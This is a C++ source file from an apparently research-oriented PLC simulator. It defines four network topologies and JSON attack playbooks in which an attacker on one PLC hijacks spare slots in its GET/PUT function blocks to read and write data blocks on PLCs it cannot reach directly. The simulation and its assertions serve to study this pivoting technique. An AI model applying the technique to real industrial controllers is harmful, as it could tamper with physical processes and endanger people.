// Copyright (c) 2026 plcpivot contributors.
// SPDX-License-Identifier: Apache-2.0

#include "scenarios.hpp"

#include <fstream>

namespace plcpivot::run {

namespace {

// Scenario 1: attacker reaches PLC1 over IP; PLC2 hangs off PLC1 only.
// PLC2's DB1 byte 0 carries the 0x5A marker the playbooks exfiltrate.
const char* kScenario1Topology = R"json({
  "plcs": [
    {
      "id": "plc1",
      "scan_interval_us": 50000,
      "data_blocks": [
        {"number": 12, "size": 64},
        {"number": 77, "size": 616},
        {"number": 99, "size": 600},
        {"number": 100, "size": 64},
        {"number": 101, "size": 64}
      ],
      "connections": [{"conn_id": 2, "channel": "plc1-plc2"}],
      "fb_instances": [
        {
          "kind": "GET", "instance_db": 99, "conn_id": 2,
          "trigger_interval_us": 200000,
          "slots": [
            {"slot": 1, "remote": "P#DB12.DBX4.0 WORD 1", "local": "P#DB12.DBX2.0 WORD 1"}
          ]
        },
        {
          "kind": "PUT", "instance_db": 77, "conn_id": 2,
          "trigger_interval_us": 200000,
          "slots": [
            {"slot": 1, "remote": "P#DB12.DBX8.0 WORD 1", "local": "P#DB12.DBX6.0 WORD 1"}
          ]
        }
      ]
    },
    {
      "id": "plc2",
      "scan_interval_us": 50000,
      "data_blocks": [
        {"number": 1, "size": 64, "init": [{"offset": 0, "hex": "5a"}]},
        {"number": 12, "size": 64, "init": [{"offset": 4, "hex": "beef"}]}
      ]
    }
  ],
  "channels": [
    {"id": "attacker-plc1", "kind": "IP", "endpoints": ["ATTACKER", "plc1"],
     "delay_us": 1000, "tcp_port": 9521},
    {"id": "plc1-plc2", "kind": "IP", "endpoints": ["plc1", "plc2"], "delay_us": 30000}
  ],
  "reachability": [["ATTACKER", "plc1"], ["plc1", "plc2"]]
})json";

// Scenario 2: identical layout, but the PLC1..PLC2 leg is a serial line.
const char* kScenario2Topology = R"json({
  "plcs": [
    {
      "id": "plc1",
      "scan_interval_us": 50000,
      "data_blocks": [
        {"number": 12, "size": 64},
        {"number": 77, "size": 616},
        {"number": 99, "size": 600},
        {"number": 100, "size": 64},
        {"number": 101, "size": 64}
      ],
      "connections": [{"conn_id": 2, "channel": "plc1-plc2"}],
      "fb_instances": [
        {
          "kind": "GET", "instance_db": 99, "conn_id": 2,
          "trigger_interval_us": 200000,
          "slots": [
            {"slot": 1, "remote": "P#DB12.DBX4.0 WORD 1", "local": "P#DB12.DBX2.0 WORD 1"}
          ]
        },
        {
          "kind": "PUT", "instance_db": 77, "conn_id": 2,
          "trigger_interval_us": 200000,
          "slots": [
            {"slot": 1, "remote": "P#DB12.DBX8.0 WORD 1", "local": "P#DB12.DBX6.0 WORD 1"}
          ]
        }
      ]
    },
    {
      "id": "plc2",
      "scan_interval_us": 50000,
      "data_blocks": [
        {"number": 1, "size": 64, "init": [{"offset": 0, "hex": "5a"}]},
        {"number": 12, "size": 64, "init": [{"offset": 4, "hex": "beef"}]}
      ]
    }
  ],
  "channels": [
    {"id": "attacker-plc1", "kind": "IP", "endpoints": ["ATTACKER", "plc1"],
     "delay_us": 1000, "tcp_port": 9522},
    {"id": "plc1-plc2", "kind": "SERIAL", "endpoints": ["plc1", "plc2"],
     "delay_us": 2000, "bytes_per_second": 960}
  ],
  "reachability": [["ATTACKER", "plc1"], ["plc1", "plc2"]]
})json";

// Scenario 3: two sites over a WAN. A path from the attacker to PLC2
// physically exists but the allowlist only admits traffic to PLC1.
const char* kScenario3Topology = R"json({
  "plcs": [
    {
      "id": "plc1",
      "scan_interval_us": 50000,
      "data_blocks": [
        {"number": 12, "size": 64},
        {"number": 77, "size": 616},
        {"number": 99, "size": 600},
        {"number": 100, "size": 64},
        {"number": 101, "size": 64}
      ],
      "connections": [{"conn_id": 2, "channel": "plc1-plc2"}],
      "fb_instances": [
        {
          "kind": "GET", "instance_db": 99, "conn_id": 2,
          "trigger_interval_us": 500000,
          "slots": [
            {"slot": 1, "remote": "P#DB12.DBX4.0 WORD 1", "local": "P#DB12.DBX2.0 WORD 1"}
          ]
        },
        {
          "kind": "PUT", "instance_db": 77, "conn_id": 2,
          "trigger_interval_us": 500000,
          "slots": [
            {"slot": 1, "remote": "P#DB12.DBX8.0 WORD 1", "local": "P#DB12.DBX6.0 WORD 1"}
          ]
        }
      ]
    },
    {
      "id": "plc2",
      "scan_interval_us": 50000,
      "data_blocks": [
        {"number": 1, "size": 64, "init": [{"offset": 0, "hex": "5a"}]},
        {"number": 12, "size": 64, "init": [{"offset": 4, "hex": "beef"}]}
      ]
    }
  ],
  "channels": [
    {"id": "attacker-plc1", "kind": "IP", "endpoints": ["ATTACKER", "plc1"],
     "delay_us": 1000, "tcp_port": 9523},
    {"id": "plc1-plc2", "kind": "IP", "endpoints": ["plc1", "plc2"], "delay_us": 50000},
    {"id": "attacker-plc2", "kind": "IP", "endpoints": ["ATTACKER", "plc2"],
     "delay_us": 50000}
  ],
  "sites": {"site1": ["plc1"], "site2": ["plc2"]},
  "reachability": [["ATTACKER", "plc1"], ["plc1", "plc2"]]
})json";

// Scenario 4: PLC3 sits two FB hops deep. PLC2's FBs run on a slow trigger
// against a high-latency link so its REQ pulses stay wide enough to sample
// through the PLC1 relay.
const char* kScenario4Topology = R"json({
  "plcs": [
    {
      "id": "plc1",
      "scan_interval_us": 50000,
      "data_blocks": [
        {"number": 12, "size": 64},
        {"number": 77, "size": 616},
        {"number": 99, "size": 600},
        {"number": 100, "size": 64},
        {"number": 101, "size": 64}
      ],
      "connections": [{"conn_id": 2, "channel": "plc1-plc2"}],
      "fb_instances": [
        {
          "kind": "GET", "instance_db": 99, "conn_id": 2,
          "trigger_interval_us": 150000,
          "slots": [
            {"slot": 1, "remote": "P#DB12.DBX4.0 WORD 1", "local": "P#DB12.DBX2.0 WORD 1"}
          ]
        },
        {
          "kind": "PUT", "instance_db": 77, "conn_id": 2,
          "trigger_interval_us": 150000,
          "slots": [
            {"slot": 1, "remote": "P#DB12.DBX8.0 WORD 1", "local": "P#DB12.DBX6.0 WORD 1"}
          ]
        }
      ]
    },
    {
      "id": "plc2",
      "scan_interval_us": 50000,
      "data_blocks": [
        {"number": 1, "size": 64, "init": [{"offset": 0, "hex": "42"}]},
        {"number": 12, "size": 64, "init": [{"offset": 4, "hex": "beef"}]},
        {"number": 76, "size": 616},
        {"number": 98, "size": 600},
        {"number": 100, "size": 64},
        {"number": 101, "size": 64}
      ],
      "connections": [{"conn_id": 3, "channel": "plc2-plc3"}],
      "fb_instances": [
        {
          "kind": "GET", "instance_db": 98, "conn_id": 3,
          "trigger_interval_us": 2500000,
          "slots": [
            {"slot": 1, "remote": "P#DB1.DBX4.0 WORD 1", "local": "P#DB100.DBX4.0 WORD 1"}
          ]
        },
        {
          "kind": "PUT", "instance_db": 76, "conn_id": 3,
          "trigger_interval_us": 2500000,
          "slots": [
            {"slot": 1, "remote": "P#DB1.DBX8.0 WORD 1", "local": "P#DB101.DBX8.0 WORD 1"}
          ]
        }
      ]
    },
    {
      "id": "plc3",
      "scan_interval_us": 50000,
      "data_blocks": [
        {"number": 1, "size": 64, "init": [{"offset": 0, "hex": "77"}, {"offset": 4, "hex": "cafe"}]},
        {"number": 5, "size": 32, "init": [{"offset": 0, "hex": "0102030405"}]}
      ]
    }
  ],
  "channels": [
    {"id": "attacker-plc1", "kind": "IP", "endpoints": ["ATTACKER", "plc1"],
     "delay_us": 1000, "tcp_port": 9524},
    {"id": "plc1-plc2", "kind": "IP", "endpoints": ["plc1", "plc2"], "delay_us": 20000},
    {"id": "plc2-plc3", "kind": "IP", "endpoints": ["plc2", "plc3"], "delay_us": 400000}
  ],
  "reachability": [["ATTACKER", "plc1"], ["plc1", "plc2"], ["plc2", "plc3"]]
})json";

// Shared shape of the scenario 1-3 playbooks: fingerprint, prove the direct
// path is closed, GET-hijack the marker out, PUT-hijack a byte in, verify
// in-band, restore.
const char* kScenario123Playbook = R"json({
  "name": "%NAME%",
  "entry_channel": "attacker-plc1",
  "steps": [
    {"op": "probe", "db": 99, "expect_size": 600},
    {"op": "probe", "db": 7777, "expect": "absent"},
    {"op": "probe", "plc": "plc2", "db": 1, "expect": "unreachable"},
    {"op": "fingerprint_range", "from_db": 1, "to_db": 130,
     "expect": {"99": "GET", "77": "PUT", "12": "OTHER", "100": "OTHER", "1": "ABSENT"}},
    {"op": "read_usage", "db": 99, "expect_spare": [2, 3, 4]},
    {"op": "configure", "db": 99, "slot": 2,
     "remote": "P#DB1.DBX0.0 BYTE 1", "local": "P#DB100.DBX1.0 BYTE 1"},
    {"op": "await", "db": 99, "timeout_us": %AWAIT_US%},
    {"op": "collect", "local": "P#DB100.DBX1.0 BYTE 1", "save_as": "marker"},
    {"op": "assert_equals", "left": "$marker", "right": "5a"},
    {"op": "reset", "db": 99, "slot": 2},
    {"op": "configure", "db": 77, "slot": 2,
     "remote": "P#DB1.DBX3.0 BYTE 1", "local": "P#DB101.DBX1.0 BYTE 1",
     "value_hex": "a5"},
    {"op": "await", "db": 77, "timeout_us": %AWAIT_US%},
    {"op": "reset", "db": 77, "slot": 2},
    {"op": "configure", "db": 99, "slot": 2,
     "remote": "P#DB1.DBX3.0 BYTE 1", "local": "P#DB100.DBX2.0 BYTE 1"},
    {"op": "await", "db": 99, "timeout_us": %AWAIT_US%},
    {"op": "collect", "local": "P#DB100.DBX2.0 BYTE 1", "save_as": "putback"},
    {"op": "assert_equals", "left": "$putback", "right": "a5"},
    {"op": "reset", "db": 99, "slot": 2}
  ]
})json";

const char* kScenario4Playbook = R"json({
  "name": "multi-hop",
  "entry_channel": "attacker-plc1",
  "steps": [
    {"op": "fingerprint_range", "from_db": 1, "to_db": 130,
     "expect": {"99": "GET", "77": "PUT"}},
    {"op": "read_usage", "db": 99, "expect_spare": [2, 3, 4]},
    {"op": "remote_read", "target": "P#DB1.DBX0.0 BYTE 1", "save_as": "m1",
     "chain": [{"plc": "plc1", "get_db": 99, "put_db": 77}]},
    {"op": "assert_equals", "left": "$m1", "right": "42"},
    {"op": "remote_read", "target": "P#DB1.DBX0.0 BYTE 1", "save_as": "m2",
     "chain": [{"plc": "plc1", "get_db": 99, "put_db": 77},
               {"plc": "plc2", "get_db": 98, "put_db": 76}]},
    {"op": "assert_equals", "left": "$m2", "right": "77"},
    {"op": "remote_write", "target": "P#DB1.DBX1.0 BYTE 1", "value_hex": "c3",
     "verify": true,
     "chain": [{"plc": "plc1", "get_db": 99, "put_db": 77},
               {"plc": "plc2", "get_db": 98, "put_db": 76}]},
    {"op": "remote_read", "target": "P#DB1.DBX1.0 BYTE 1", "save_as": "m3",
     "chain": [{"plc": "plc1", "get_db": 99, "put_db": 77},
               {"plc": "plc2", "get_db": 98, "put_db": 76}]},
    {"op": "assert_equals", "left": "$m3", "right": "c3"}
  ]
})json";

std::string named_playbook(const char* tmpl, const std::string& name,
                           std::uint64_t await_us) {
    std::string text = tmpl;
    auto replace_all = [&text](const std::string& token, const std::string& value) {
        for (auto pos = text.find(token); pos != std::string::npos;
             pos = text.find(token, pos + value.size()))
            text.replace(pos, token.size(), value);
    };
    replace_all("%NAME%", name);
    replace_all("%AWAIT_US%", std::to_string(await_us));
    return text;
}

// Await budgets are 3x the fixture trigger interval.
std::uint64_t scenario_await_us(int n) { return n == 3 ? 1'500'000 : 600'000; }

}  // namespace

const char* scenario_name(int n) {
    switch (n) {
        case 1: return "non-routable";
        case 2: return "ip-to-serial";
        case 3: return "site-to-site";
        case 4: return "multi-hop";
        default: return nullptr;
    }
}

const char* scenario_topology_json(int n) {
    switch (n) {
        case 1: return kScenario1Topology;
        case 2: return kScenario2Topology;
        case 3: return kScenario3Topology;
        case 4: return kScenario4Topology;
        default: return nullptr;
    }
}

std::string scenario_playbook_json(int n) {
    switch (n) {
        case 1:
        case 2:
        case 3:
            return named_playbook(kScenario123Playbook, scenario_name(n),
                                  scenario_await_us(n));
        case 4: return kScenario4Playbook;
        default: return {};
    }
}

RunReport run_scenario(int n, std::uint64_t seed, const std::string& log_path,
                       const std::string& report_path) {
    if (n < 1 || n > kScenarioCount)
        throw std::invalid_argument("scenario number must be 1.." +
                                    std::to_string(kScenarioCount));

    net::Topology topo = net::load_topology(scenario_topology_json(n));
    Playbook pb = parse_playbook(scenario_playbook_json(n));
    net::Fleet fleet(std::move(topo));
    RunReport report = run_playbook(fleet, pb, seed);

    if (!log_path.empty()) {
        std::ofstream out(log_path, std::ios::binary);
        if (!out) throw net::ConfigError("cannot write event log: " + log_path);
        out << fleet.event_log_jsonl();
    }
    if (!report_path.empty()) {
        std::ofstream out(report_path, std::ios::binary);
        if (!out) throw net::ConfigError("cannot write report: " + report_path);
        out << report.to_json().dump(2) << "\n";
    }
    return report;
}

}  // namespace plcpivot::run
